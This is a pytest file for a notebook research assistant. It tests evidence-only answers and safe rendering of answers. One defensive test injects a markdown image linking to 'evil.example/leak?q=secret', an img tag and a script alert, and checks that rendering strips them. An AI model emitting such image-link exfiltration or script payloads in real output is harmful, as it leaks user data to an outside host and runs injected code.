"""Evidence-only answers (no LLM configured) and how answers display."""

from __future__ import annotations

import json

from tests.agents_support import DOCS
from tests.test_agents import Stack, assert_key_free
from zocrates_nb.agents.answer import Answer, Citation, TurnUsage, without_remote_images
from zocrates_nb.agents.evidence_only import LABEL, best_passage

NOTE = next(d for d in DOCS if d.key == "NTAB2345")


def test_evidence_only_answer_quotes_the_library_without_keys(tmp_path):
    stack = Stack(tmp_path, None)            # no llm.base_url: the embedded default
    tokens: list[str] = []
    answer = stack.coordinator.ask("Which deconvolution methods work for spot-level spatial data?",
                                   on_token=tokens.append)
    assert answer.mode == "evidence-only" and answer.text.startswith(f"**{LABEL}**")
    assert tokens == [answer.text]
    assert_key_free(answer.text)
    # the long note was read and its best paragraph quoted; the short note inlined whole
    assert NOTE.key in stack.tools.corpus.reads and NOTE.key in answer.read_keys
    assert "> Spots of the Visium array hold several cells" in answer.text
    assert "> Deconvolution reading list for spatial transcriptomics spots." in answer.text
    assert f"Your note **“{NOTE.title}”**, on *Visualization and analysis" in answer.text
    assert "(Ståhl et al., 2016)" in answer.text
    assert answer.usage["total"]["calls"] == 0 and answer.usage["total"]["total_tokens"] == 0
    titles = {c.title: c for c in answer.citations}
    assert titles[NOTE.title].citation == "note on Ståhl et al., 2016"
    assert {e["source"] for e in answer.evidence} == {"search_corpus", "read_document"}
    [event] = stack.events_of("answer")
    assert event["mode"] == "evidence-only" and event["read_keys"] == answer.read_keys
    assert stack.events_of("llm") == []


def test_evidence_only_with_nothing_found_says_what_to_do(tmp_path):
    answer = Stack(tmp_path, None).coordinator.ask("zebrafish fin regeneration")
    assert answer.mode == "evidence-only" and "Nothing in your library matches" in answer.text
    assert "zocrates-nb llm set" in answer.text and answer.citations == []


def test_best_passage_picks_the_matching_paragraph():
    md = "# T\n\nAbout mice and brains.\n\nDeconvolution with RCTD is fast.\n\nOther things."
    assert best_passage(md, "Is RCTD deconvolution fast?") == "Deconvolution with RCTD is fast."


def _answer(text: str) -> Answer:
    usage = TurnUsage()
    usage.add("library_synthesizer", {"prompt_tokens": 10, "completion_tokens": 5, "profile_tokens": 2,
                                      "cost_usd": None, "latency_ms": 3})
    return Answer(text=text, citations=[Citation("A note", "note", "note", key="NTAB2345")],
                  evidence=[{"key": "NTAB2345", "kind": "note", "title": "A note", "text": "x"}],
                  usage=usage.as_dict(), mode="llm", session_id="s1")


def test_answer_display_loads_no_remote_image_and_runs_no_script():
    answer = _answer("See ![chart](https://evil.example/leak?q=secret) and <img src=https://evil.example/x.png>"
                     "<script>alert(1)</script> with $\\alpha$.")
    html = answer._repr_html_()
    markdown = answer._repr_markdown_()
    for rendered in (html, markdown):
        assert "<img" not in rendered and "![chart]" not in rendered and "<script" not in rendered.lower()
    assert "NTAB2345" not in html and "NTAB2345" not in markdown and "NTAB2345" not in repr(answer)
    assert "$\\alpha$" in html


def test_answer_json_shape_and_usage_totals():
    data = json.loads(json.dumps(_answer("Text.").to_json()))
    assert set(data) >= {"answer", "citations", "evidence", "usage", "mode"}
    assert data["citations"] == [{"title": "A note", "citation": "note", "kind": "note"}]
    assert data["usage"]["total"]["total_tokens"] == 15 and data["usage"]["total"]["cost_usd"] is None
    assert without_remote_images("![a](http://x/y.png)") == "[image: a](http://x/y.png)"
